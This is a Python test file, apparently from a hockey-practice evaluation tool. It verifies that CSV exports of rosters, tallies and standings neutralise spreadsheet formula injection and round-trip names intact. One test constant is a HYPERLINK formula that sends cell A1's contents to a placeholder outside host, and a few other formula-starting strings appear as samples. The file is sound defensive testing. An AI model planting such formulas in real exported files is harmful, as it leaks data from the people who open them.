"""No text in a CSV of ours is a formula to a spreadsheet, and each comes back as it was."""

import csv
import io
from dataclasses import fields
from datetime import date

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lanterns_files import DRILLS, PLAYERS, SKILLS, roster_bytes

from evaltrack.analysis.agreement.agreement import COLUMNS as AGREEMENT_COLUMNS
from evaltrack.analysis.agreement.agreement import Agreement, Row
from evaltrack.analysis.standings.standing import COLUMNS, Call, Coverage, Standing, Trend
from evaltrack.intake.csv_text import csv_text, unmarked
from evaltrack.intake.roster import LONGEST_NAME, read_roster
from evaltrack.intake.tallies import read_tallies
from evaltrack.intake.tally_columns import LONGEST_OBSERVER
from evaltrack.intake.tally_form import form_text, kinds_of_try
from evaltrack.intake.text import folded, name_fault
from evaltrack.intake.writing import write_tallies
from evaltrack.paper.tables import agreement as agreement_table
from evaltrack.paper.tables import coverage as coverage_table
from evaltrack.paper.tables import standings as standings_table
from evaltrack.rink.player import Player, Position
from evaltrack.rink.practice import Practice
from evaltrack.rink.tally import Outcome, Tally

SAME_FOLDER = settings(
    max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
)
STARTERS = "=+-@\t\r"
BELOW = "-0.12"  # a number of a listing, and no text
FORMULA = '=HYPERLINK("http://kettle.example/?"&A1,"click")'
texts = st.text(max_size=20) | st.text(alphabet=STARTERS + "'\"a1,;\n ", max_size=8)


def accepted(longest: int):
    """Return every kind of name that the readers take, those that look like formulas before all others."""
    return texts.map(folded).filter(lambda name: name and name_fault(name, "the name", longest) is None)


def cells(text: str) -> list[list[str]]:
    """Return what a spreadsheet sees."""
    return list(csv.reader(io.StringIO(text, newline="")))


def formulas(text: str) -> list[str]:
    return [cell for line in cells(text) for cell in line if cell[:1] in tuple(STARTERS) and cell != BELOW]


@given(st.lists(texts, min_size=1, max_size=5))
@example(["=1+1", "'=1+1", "''=1+1", "'a", "", "-0.12", "\t=1", "'\r", "O'Brien"])
def test_any_text_comes_back_and_starts_no_formula(row):
    """The rule can be undone for every text, and leaves those alone that start nothing."""
    ((*seen,),) = cells(csv_text([], [row]))[1:]
    assert [cell for cell in seen if cell[:1] in tuple(STARTERS)] == []
    assert [unmarked(cell) for cell in seen] == row
    assert all(a == b for a, b in zip(seen, row, strict=True) if b.lstrip("'")[:1] not in tuple(STARTERS))


def test_numbers_are_no_texts():
    """A number below zero stays a number for other programs, and None is nothing."""
    assert csv_text(["a"], [[-0.12, None, -3, "-3"]]) == "a\n-0.12,,-3,'-3\n"


@SAME_FOLDER
@given(st.lists(accepted(LONGEST_NAME), min_size=1, max_size=5))
@example([FORMULA[:60], "-2+3", "@SUM(1)", "+1", "'=1"])
def test_every_accepted_name_survives_the_roster(tmp_path, names):
    """Any name that a reader takes goes out in a roster.csv without a formula and comes back."""
    players = [Player(str(number), name, Position.FORWARD) for number, name in enumerate(names)]
    (tmp_path / "roster.csv").write_bytes(roster_bytes(players))
    assert formulas((tmp_path / "roster.csv").read_text(encoding="utf-8")) == []
    assert read_roster(tmp_path / "roster.csv") == players


@SAME_FOLDER
@given(accepted(LONGEST_OBSERVER))
@example('=HYPERLINK("http://x")')
def test_every_accepted_observer_survives_tallies_and_form(tmp_path, observer):
    """Any observer goes out in a tallies.csv and in a form without a formula, and comes back."""
    drill, skill = DRILLS[0], SKILLS[0]
    step, day = drill.steps[0], date(2025, 9, 4)
    at = 1_757_000_000_000
    tally = Tally("2025-09-04", PLAYERS[0].id, skill.key, Outcome.DONE, drill.key, step.key, observer, at=at)
    write_tallies(tmp_path / "tallies.csv", [tally], PLAYERS, [Practice("2025-09-04", day)])
    form = form_text(kinds_of_try(skill, PLAYERS[:1]), (drill, step), day, observer)
    (tmp_path / "form.csv").write_bytes(form.replace("\n,", "\n3,").encode())
    for name in ("tallies.csv", "form.csv"):
        assert formulas((tmp_path / name).read_bytes().decode()) == []
        loaded = read_tallies(tmp_path / name, PLAYERS, SKILLS, DRILLS)
        assert {one.observer for one in loaded.tallies} == {observer}


def filled(kind, **named):
    """Return one row of a listing whose numbers are all below zero."""
    return kind(**({field.name: -0.12 for field in fields(kind)} | named))


@given(accepted(LONGEST_NAME), accepted(LONGEST_OBSERVER))
@example(FORMULA[:60], "@edda")
def test_no_listing_has_a_formula(name, observer):
    """Standings, coverage and agreement show no formula, and numbers below zero as numbers."""
    who = {"player": "7", "name": name, "position": "F", "skill": "stop"}
    more = {"call": Call.SOLID, "trend": Trend.UP, "path": (), "seen": (), "doubt": None, "reasons": ()}
    row = filled(Row, first=observer, second="=2", skill="all")
    listings = (
        (standings_table.as_csv([filled(Standing, **who, **more)]), COLUMNS, who | {"change": BELOW}),
        (coverage_table.as_csv([filled(Coverage, **who)]), coverage_table.COLUMNS,
         who | {"to_go": BELOW}),
        (agreement_table.as_csv(Agreement((), (), (row,))), AGREEMENT_COLUMNS,
         {"first": observer, "second": "=2", "difference": BELOW}),
    )  # fmt: skip
    for text, columns, said in listings:
        header, values = cells(text)
        assert tuple(header) == tuple(columns)
        assert formulas(text) == []
        read = (value if value == BELOW else unmarked(value) for value in values)
        assert said.items() <= dict(zip(header, read, strict=True)).items()


@pytest.mark.parametrize("written", ["'=1+1", "=1+1"])
def test_a_name_is_the_same_with_its_mark_and_without(tmp_path, written):
    """A spreadsheet that drops the mark, or a coach who types none, names the same player."""
    (tmp_path / "roster.csv").write_text(f"number,name,position\n1,{written},F\n", encoding="utf-8")
    assert read_roster(tmp_path / "roster.csv")[0].name == "=1+1"
